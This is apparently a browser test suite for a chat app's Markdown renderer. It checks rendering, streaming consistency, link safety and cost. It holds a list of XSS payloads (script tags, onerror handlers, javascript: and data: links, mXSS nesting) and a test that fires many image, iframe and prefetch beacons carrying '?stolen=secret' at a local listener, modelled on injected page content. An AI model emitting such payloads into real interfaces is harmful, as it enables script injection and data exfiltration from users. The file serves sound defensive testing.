"""How an answer's text is drawn: Markdown, while it streams and whole, and nothing that a model writes is run."""

import re
import socket
import threading
from collections.abc import Iterator
from contextlib import contextmanager, suppress

import pytest
from playwright.sync_api import expect

from tests.browser.chat_page import ChatPage, script, turns
from tests.browser.samples import CALL, FAILING, WEATHER
from tests.processes import wait_until

HOSTILE = [
    "<script>window.broken = 1</script>",
    "<img src=x onerror='window.broken = 1'>",
    "<svg onload='window.broken = 1'><a href='javascript:window.broken=1'>x</a></svg>",
    "<iframe srcdoc='<script>parent.broken = 1</script>'></iframe>",
    "[click](javascript:window.broken=1)",
    "[click](java\tscript:window.broken=1)",
    "[click](data:text/html,<script>opener.broken=1</script>)",
    "<javascript:window.broken=1>",
    '![x](x" onerror="window.broken=1)',
    "![<img src=x onerror=window.broken=1>](http://127.0.0.1:9/p.png)",
    "[x]: javascript:window.broken=1\n\n[x]",
    "```<img src=x onerror=window.broken=1>\ncode\n```",
    "```html\n<img src=x onerror='window.broken = 1'>\n```",
    "| <img src=x onerror='window.broken=1'> |\n|---|\n| <b onclick=alert(1)>x</b> |",
    "<math><mtext><table><mglyph><style><img src=x onerror='window.broken = 1'>",
    "<form action=/accounts/logout/ method=post><button>x</button></form><style>*{display:none}</style>",
]
ALLOWED = {
    "a", "button", "code", "div", "figcaption", "figure", "li", "ol", "p", "pre", "span", "table", "tbody", "td", "th",
    "thead", "tr", "ul",
}  # fmt: skip


def test_markdown_is_drawn(chat: ChatPage) -> None:
    answer = chat.answered(script({"text": [*WEATHER]}))
    expect(answer.locator("tbody tr")).to_have_count(2)
    expect(answer.locator("td.number")).to_have_text(["10 °C", "80 %", "9 °C", "10 %"])
    expect(answer.locator("th").nth(1)).to_have_css("text-align", "end")
    expect(answer.locator("figure.code .language")).to_have_text("Python")
    expect(answer.locator("figure.code code")).to_have_text("def answer() -> int:\n    return 42  # a comment")
    expect(answer.locator(".hljs-keyword").first).to_have_text("def")
    expect(answer.locator("ol > li")).to_have_count(2)
    expect(answer.locator("ol ul > li")).to_contain_text("☑")
    expect(answer.locator("strong")).to_have_text("bold")


def test_a_reload_draws_the_same(chat: ChatPage) -> None:
    chat.answered(turns([{"text": "First. "}, CALL, FAILING], [{"text": WEATHER}]))
    body = "() => document.querySelector('.answer-body').innerHTML.replaceAll(/tool-\\d+/g, '')"
    told = chat.js(body)
    chat.page.reload()
    expect(chat.answers.last.locator("table")).to_be_visible()
    wait_until(lambda: chat.js(body) == told, seconds=10, otherwise=lambda: f"{told}\n\n{chat.js(body)}")


def test_links_open_in_a_new_tab_and_tell_nothing(chat: ChatPage) -> None:
    link = chat.answered(
        script({"text": "[docs](https://example.com/a) [page](/accounts/logout/) [x](ftp://e.com)"})
    ).locator("a")
    expect(link).to_have_count(1)
    expect(link).to_have_attribute("target", "_blank")
    assert {"noopener", "noreferrer"} <= set((link.get_attribute("rel") or "").split())


def test_an_image_from_elsewhere_is_a_link(chat: ChatPage) -> None:
    asked: list[str] = []
    chat.page.on("request", lambda request: asked.append(request.url))
    answer = chat.answered(script({"text": "![a chart](http://127.0.0.1:9/chart.png) ![](http://127.0.0.1:9/b.png)"}))
    expect(answer.locator("img")).to_have_count(0)
    expect(answer.locator("a")).to_have_text(["a chart", "Image"])
    assert not [url for url in asked if ":9/" in url]


@contextmanager
def listener() -> Iterator[tuple[str, list[str]]]:
    """An address of somebody else, and who has called there."""
    calls: list[str] = []
    with socket.create_server(("127.0.0.1", 0)) as server:

        def listen() -> None:
            with suppress(OSError):
                while True:
                    connection, peer = server.accept()
                    calls.append(str(peer))
                    connection.close()

        threading.Thread(target=listen, daemon=True).start()
        yield f"127.0.0.1:{server.getsockname()[1]}", calls
        server.shutdown(socket.SHUT_RDWR)


def test_nothing_that_a_model_or_a_tool_says_calls_anybody(chat: ChatPage) -> None:
    """What somebody has hidden in a page that a tool reads must not carry the conversation away."""
    with listener() as (there, calls):
        beacon = f"http://{there}/?stolen=secret"
        ways = [f"![x]({beacon})", f"![x][1]\n\n[1]: {beacon}", f"[![x]({beacon})]({beacon})", f"<{beacon}>", beacon,
                f'<img src="{beacon}">', f'<link rel="prefetch" href="{beacon}">', f'<iframe src="{beacon}"></iframe>',
                f"<style>@import url({beacon})</style>", f'<svg><image href="{beacon}"/></svg>',
                f'<meta http-equiv="refresh" content="0;url={beacon}">', f'<video poster="{beacon}"></video>',
                f"![x](//{there}/a.png)", f"![x](data:image/svg+xml,<svg><image href='{beacon}'/></svg>)",
                f"```html\n<img src={beacon}>\n```", f"| ![x]({beacon}) |\n|---|\n| a |"]  # fmt: skip
        call = {"call": "calculate", "arguments": {"expression": f"![x]({beacon})"}, "id": "call_away"}
        answer = chat.answered(turns([call], [{"text": "\n\n".join(ways)}]))
        answer.locator(".tool-head").click()
        answer.locator("a").first.hover()
        chat.page.reload()
        expect(chat.answers).to_have_count(1)
        assert calls == []


def test_html_of_a_model_is_text(chat: ChatPage) -> None:
    """While it streams, when it is complete, and loaded again."""
    for text in HOSTILE:
        chat.answered(script({"text": [*text]}))
        assert_harmless(chat, text)
    chat.page.reload()
    expect(chat.answers).to_have_count(len(HOSTILE))
    assert_harmless(chat, "after a reload")


def assert_harmless(chat: ChatPage, text: str) -> None:
    found = chat.js(
        """() => {
            const drawn = [...document.querySelectorAll(".markdown *")];
            return {
                elements: drawn.filter((e) => !e.closest("svg.icon")).map((e) => e.localName),
                schemes: drawn.filter((e) => e.href !== undefined).map((e) => e.protocol),
                attributes: drawn.flatMap((e) => [...e.attributes].map((a) => a.name)),
                broken: window.broken !== undefined,
            };
        }"""
    )
    assert set(found["elements"]) <= ALLOWED, text
    assert set(found["schemes"]) <= {"http:", "https:", "mailto:"}, text
    assert not [name for name in found["attributes"] if name.startswith("on") or name in ("style", "src", "srcdoc")], (
        text
    )
    assert not found["broken"], text


def test_names_and_results_of_tools_are_text_too(chat: ChatPage) -> None:
    evil = "<img src=x onerror='window.broken = 1'>"
    call = {"call": evil, "arguments": {evil: evil}, "id": "call_evil"}
    answer = chat.answered(turns([call], [{"text": "done"}]))
    answer.locator(".tool-head").click()
    expect(answer.locator(".tool-name")).to_have_text(evil)
    assert chat.js("() => document.querySelectorAll('.answer img').length") == 0
    assert chat.js("() => window.broken") is None


def test_finished_blocks_are_not_drawn_again(chat: ChatPage) -> None:
    chat.ask(script({"text": "# One\n\nTwo is finished.\n\nThree"}, {"pace": [{"text": " more"}] * 20, "every": 0.03}))
    chat.page.wait_for_function("() => document.querySelector('.markdown > p')?.textContent === 'Two is finished.'")
    chat.js("() => { window.kept = document.querySelector('.markdown > p'); }")
    chat.done()
    expect(chat.answers.last).to_contain_text("Three more more")
    assert chat.js("() => window.kept.isConnected")


@pytest.mark.parametrize(
    ("text", "never"),
    [
        ("This is **bold** and `code` and [a link](https://example.com/a) and ~~gone~~ here.", r"[*`~\[\]()]|https"),
        ("Look: ![a chart](https://example.com/chart.png) and on.", r"[\[\]()]|https"),
        ("Before\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n| 3 | 4 |\n", r"\||--"),
        ("A list:\n- one\n- **two**\n  1. three\n- [x] four\n", r"(?m)^[-*]|\*|\[|HEADING"),
        ("Text\n---\n", r"-"),
        ("> quoted **words**\n> more", r">|\*"),
        ("Said: *softly, with `code` and **more** in it* and 2 more.", r"[*`]"),
        ("## A title\n\ntext", r"#"),
        ("```python\nprint('**', [1])\n```\n\nend", r"`"),
    ],
)
def test_half_open_syntax_is_never_shown(chat: ChatPage, text: str, never: str) -> None:
    """Every beginning of the text is drawn, one character after the other."""
    shown = chat.js(
        """async (text) => {
            const { MarkdownView } = await import("/static/chat/markdown.js");
            const view = new MarkdownView();
            document.querySelector("#log").append(view.element);
            const shown = [];
            for (let length = 1; length <= text.length; length += 1) {
                view.update(text.slice(0, length), { streaming: true });
                shown.push(view.element.innerText + (view.element.querySelector("h3, h4") ? "HEADING" : ""));
            }
            return shown;
        }""",
        text,
    )
    assert len(set(shown)) > 4
    assert not [words for words in shown if re.search(never, words)]


STREAMED = [
    WEATHER.replace("\n", "\r\n"),
    "- a\n\n- b\n\n  more of b\n- c\n\n1. one\n\n2. two\n\n   ```sh\n   ls\n   ```\n\n10. ten\n\nend",
    "A [link][1] here.\n\nAnother [one][two].\n\n[1]: https://example.com/1\n[two]: https://example.com/2\n",
    "> quote\n\n> another\n\n    indented code\n\n    goes on\n\n***\nTitle\n=====\n",
    "~~~\n```\nnot a fence\n~~~\n| a |\n|---|\n| 1 |\n\n\\*not\\* `a * b`, a_b_c 3 ** 4 [1] <b>x</b>\n\n```js\nopen",
]


@pytest.mark.parametrize("text", STREAMED)
def test_text_that_came_in_pieces_ends_as_text_that_came_whole(chat: ChatPage, text: str) -> None:
    pieces, whole = chat.js(
        """async (text) => {
            const { MarkdownView } = await import("/static/chat/markdown.js");
            const [pieces, whole] = [new MarkdownView(), new MarkdownView()];
            for (let length = 1; length <= text.length; length += 1) {
                pieces.update(text.slice(0, length), { streaming: true });
            }
            pieces.update(text, { streaming: false });
            whole.update(text, { streaming: false });
            const drawn = ({ element }) => {
                element.querySelector(".tail").replaceWith(...element.querySelector(".tail").childNodes);
                return element.innerHTML.replace(/>\\s+</g, "><").trim();
            };
            return [drawn(pieces), drawn(whole)];
        }""",
        text,
    )
    assert pieces == whole


def test_a_code_block_keeps_its_place_while_it_is_written(chat: ChatPage) -> None:
    lines = [{"text": f"print({number})  # {'wide ' * 40}\n"} for number in range(25)]
    chat.ask(script({"text": "```python\n"}, {"pace": lines, "every": 0.1}, {"stall": True}))
    chat.page.wait_for_selector("figure.code pre .hljs-comment")
    chat.js("() => { window.pre = document.querySelector('figure.code pre'); window.pre.scrollLeft = 50; }")
    chat.page.wait_for_function("() => document.querySelector('figure.code code').textContent.includes('print(15)')")
    assert chat.js("() => window.pre.isConnected && window.pre.scrollLeft") == 50
    chat.page.keyboard.press("Escape")
    expect(chat.answers.last).to_have_attribute("data-status", "cancelled")


def test_the_cost_of_a_long_answer_grows_with_its_length(chat: ChatPage) -> None:
    """All text that was ever put on the page is a small multiple of the text that is there in the end."""
    paragraph = "Some words that make a paragraph with **bold** and `code` in it.\n\n"
    chat.js(
        """() => {
            window.drawn = 0;
            new MutationObserver((changes) => {
                const added = changes.flatMap((change) => [...change.addedNodes]);
                for (const node of added) window.drawn += node.textContent.length;
            }).observe(document.querySelector("#log"), {childList: true, subtree: true});
        }"""
    )
    chat.answered(script({"pace": [{"text": paragraph * 4}] * 150, "every": 0.01}), seconds=30)
    expect(chat.answers.last.locator("p strong")).to_have_count(600)
    assert chat.js("() => window.drawn") < 4 * 600 * len(paragraph)
